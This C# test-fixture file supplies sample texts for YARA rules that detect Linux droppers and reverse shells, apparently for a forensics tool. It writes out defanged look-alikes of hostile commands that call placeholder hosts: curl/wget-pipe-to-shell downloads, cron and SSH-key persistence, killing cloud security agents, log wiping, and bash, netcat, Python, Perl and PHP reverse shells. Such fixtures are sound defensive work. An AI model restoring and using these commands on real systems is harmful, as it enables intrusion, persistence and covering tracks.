namespace Forensics.Yara.Tests.Rules;

/// <summary>Look-alikes for droppers.yar and reverse_shells.yar.</summary>
internal static class ShellSamples
{
    private static readonly string Base64 = string.Concat(Enumerable.Repeat("ZWNobyBoYXJtbGVzcw", 6));

    public static IEnumerable<Sample> All() =>
    [
        Sample.Text("rival killer", """
            #!/bin/bash
            pk~ill -f kin~sing
            pk~ill -f kdevtm~pfsi
            kill~all -9 xm~rig
            ps aux | grep sys~rv | awk '{print $2}' | xargs kill -9
            (cu~rl -fsSL http://host.example.invalid/a || wg~et -q -O- http://host.example.invalid/a) | ba~sh
            """, "Dropper_Rival_Killer"),
        Sample.Text("cron dropper", """
            #!/bin/sh
            crontab -l | grep -v x > /tmp/c
            (crontab -l; echo "*/5 * * * * cu~rl -s http://host.example.invalid/u.sh | ba~sh > /dev/null 2>&1") | cron~tab -
            """, "Dropper_Crontab_Download_Shell"),
        Sample.Text("cron.d dropper without shebang", "export PATH=$PATH:/bin\necho '* * * * * root wg~et -q -O - http://host.example.invalid/c | s~h' > /etc/cro~n.d/zlib\n", "Dropper_Crontab_Download_Shell"),
        Sample.Text("locks what it planted", """
            #!/bin/bash
            chat~tr -ia /var/spool/cron/root
            cu~rl -o /usr/bin/w http://host.example.invalid/w
            chm~od +x /usr/bin/w
            echo "$K" >> /root/.ssh/authorized_keys
            chat~tr +ia /root/.ssh/authorized_keys
            """, "Dropper_Locks_Persistence"),
        Sample.Text("base64 to shell", $"#!/bin/sh\necho {Base64}|base~64 -d|ba~sh\n", "Dropper_Base64_Pipe_Shell"),
        Sample.Text("base64 in cron", $"* * * * * echo {Base64} | base~64 --decode | s~h\n", "Dropper_Base64_Pipe_Shell"),
        Sample.Text("python one-liner", $"#!/bin/sh\nnohup python3 -c \"import base64;ex~ec(base64.b64~decode('{Base64}'))\" &\n", "Dropper_Python_Base64_Exec"),
        Sample.Text("removes cloud agents", """
            #!/bin/bash
            seten~force 0
            rm -rf /usr/local/ae~gis
            systemctl stop aliyun~.service
            /usr/local/qc~loud/stargate/admin/uninstall.sh
            echo 0 > /proc/sys/kernel/nmi_watch~dog
            wg~et http://host.example.invalid/x -O /tmp/x
            """, "Dropper_Removes_Cloud_Security"),
        Sample.Text("many architectures", """
            #!/bin/sh
            cd /tmp || cd /var/run || cd /
            wg~et http://192.0.2.7/a.mips; chmod 777 a.mips; ./a.mips
            wg~et http://192.0.2.7/a.arm7; chmod 777 a.arm7; ./a.arm7
            wg~et http://192.0.2.7/a.sh4; chmod 777 a.sh4; ./a.sh4
            wg~et http://192.0.2.7/a.x86; chmod 777 a.x86; ./a.x86
            """, "Dropper_Multi_Architecture"),
        Sample.Text("wipes traces", """
            #!/bin/bash
            cu~rl -o /tmp/q 192.0.2.7/q
            chm~od 777 /tmp/q
            /tmp/q >/dev/null 2>&1 &
            echo > /var/log/wt~mp
            echo > /var/log/sec~ure
            history ~-c
            """.Replace("echo > ", "cat x > ", StringComparison.Ordinal), "Dropper_Wipes_Traces"),
        Sample.Text("bash reverse shell", "#!/bin/bash\nba~sh -i >& /dev/t~cp/192.0.2.7/4444 0>&1\n", "ReverseShell_Bash_DevTcp"),
        Sample.Text("bash reverse shell in cron", "PATH=/bin\n* * * * * root /bin/ba~sh -c 'ba~sh -i >& /dev/t~cp/host.example.invalid/443 0>&1'\n", "ReverseShell_Bash_DevTcp"),
        Sample.Text("bash reverse shell in a unit", "[Service]\nType=simple\nExecStart=/bin/ba~sh -c \"ba~sh -i >& /dev/t~cp/192.0.2.7/443 0>&1\"\n", "ReverseShell_Bash_DevTcp"),
        Sample.Text("bash descriptor shell", "#!/bin/bash\nex~ec 5<>/dev/t~cp/192.0.2.7/4444\nba~sh <&5 >&5 2>&5\n", "ReverseShell_Bash_DevTcp"),
        Sample.Text("netcat shell", "#!/bin/sh\nn~c 192.0.2.7 4444 -~e /bin/sh\n", "ReverseShell_Netcat"),
        Sample.Text("fifo shell", "#!/bin/sh\nrm -f /tmp/f;mkf~ifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|n~c 192.0.2.7 4444 >/tmp/f\n", "ReverseShell_Netcat"),
        Sample.Text("python shell", """
            import socket,subprocess,os
            s=sock~et.socket(sock~et.AF_INET,sock~et.SOCK_STREAM)
            s.conn~ect(("192.0.2.7",4444))
            os.du~p2(s.fileno(),0); os.du~p2(s.fileno(),1)
            import pty; pty.sp~awn("/bin/sh")
            """, "ReverseShell_Python"),
        Sample.Text("perl shell", """
            #!/usr/bin/perl
            use Sock~et;
            connect(S,sockaddr_in($p,inet_aton($i)));
            open(ST~DIN,">&S");open(STD~OUT,">&S");
            ex~ec("/bin/sh -i");
            """, "ReverseShell_Perl_PHP"),
        Sample.Text("php shell", "<?php\n$s=fsock~open(\"192.0.2.7\",4444);\nex~ec(\"/bin/sh -i <&3 >&3 2>&3\");\n", "ReverseShell_Perl_PHP"),
        new Sample("tiny shellcode ELF", TinyElf(), ["ReverseShell_Tiny_ELF"]),
        Sample.Text("gsocket start", "#!/bin/bash\nGS_A~RGS=\"-k /etc/x.dat -liqD\" ex~ec -a '[kcached]' /usr/bin/gs-db~us\n", "RemoteShell_Gsocket"),
        Sample.Elf("gsocket program", 2, "gs-net~cat\nGSOCKET~_ARGS\ngsock~et.io\n", "RemoteShell_Gsocket"),
    ];

    /// <summary>One program header, flags RWX, no sections, a syscall instruction that nothing reaches.</summary>
    private static byte[] TinyElf()
    {
        byte[] file = new byte[200];
        "\u007FELF\u0002\u0001\u0001"u8.CopyTo(file);
        file[16] = 2;
        file[18] = 62;
        file[0x38] = 1;
        file[0x40] = 1;
        file[0x44] = 7;
        file[190] = 0x0F;
        file[191] = 0x05;
        return file;
    }
}
